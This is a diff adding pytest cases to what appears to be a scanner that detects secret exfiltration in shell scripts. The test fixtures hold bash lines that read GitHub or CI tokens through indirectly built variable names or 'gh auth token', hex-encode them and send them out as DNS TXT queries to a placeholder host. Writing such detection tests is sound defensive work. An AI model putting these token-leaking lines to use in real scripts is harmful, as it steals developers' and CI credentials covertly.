@@ -166,3 +166,22 @@ def test_an_rc_line_sourcing_a_script_the_code_wrote_with_a_download_run_is_pers
 def test_the_same_rc_line_sourcing_a_path_setup_is_no_error():
     found = loud({"setup.js": NODE_SETUP.replace("EXTRA", "'export TOOL_READY=1'")})
     assert [hit for hit in found if hit[2] == "error"] == []
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        'n=GH; n+=_TOKEN; t="${!n:-$(gh auth token)}"',
+        't="${!missing:-$(gh auth token)}"',
+        'p=CI_; p+=JOB_; p+=TOKEN; t="${!p}"',
+    ],
+    ids=["pointer-built-in-pieces", "pointer-unknown-default-runs", "pointer-to-a-ci-token"],
+)
+def test_a_token_behind_an_indirect_name_sent_by_dns_labels_is_a_flow(head):
+    text = f'#!/bin/bash\n{head}\nfor c in $(printf %s "$t" | od -An -tx1 | tr -d " \\n"); do dig +short TXT "$c.edge.probe.example"; done\n'
+    assert (FLOW, 3, "error") in loud({"probe.sh": text})
+
+
+def test_an_indirect_name_of_a_plain_setting_sent_nowhere_is_quiet():
+    text = '#!/bin/bash\nn=EDITOR; v="${!n:-vi}"\necho "editor: $v"\n'
+    assert loud({"show.sh": text}) == []
